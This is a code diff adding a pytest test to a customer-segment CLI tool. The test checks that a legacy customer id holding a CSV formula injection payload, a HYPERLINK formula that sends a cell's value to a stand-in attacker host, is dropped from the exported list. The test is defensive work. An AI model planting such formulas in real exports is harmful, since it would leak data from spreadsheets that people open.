@@ -64,3 +64,22 @@ def test_count_and_export_a_segment(table: str, tmp_path: Path) -> None:
 def test_an_unknown_segment_fails(table: str) -> None:
     result = CliRunner().invoke(app, ["segments", "count", "nope", "--customers-table", table])
     assert result.exit_code == 1
+
+
+def test_an_id_from_before_the_id_grammar_is_left_out_of_the_export(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A customer stored before the id grammar is still read; its id written as a CSV cell
+    ran as a formula in the spreadsheet a marketer opened the list in."""
+    import kizuna_tools.cli.segments as segments_cli
+
+    formula = '=HYPERLINK("https://evil.example/?d="&B2,"open")'
+    monkeypatch.setattr(segments_cli.Members, "of", lambda self, name: [formula, "c2"])
+    out = tmp_path / "members.csv"
+    result = CliRunner().invoke(
+        app, ["segments", "export", "vip", "--out", str(out), "--customers-table", "t"]
+    )
+    assert result.exit_code == 0, result.output
+    with out.open(encoding="utf-8") as handle:
+        assert list(csv.reader(handle)) == [["customer_id"], ["c2"]]
+    assert "1 left out" in result.output
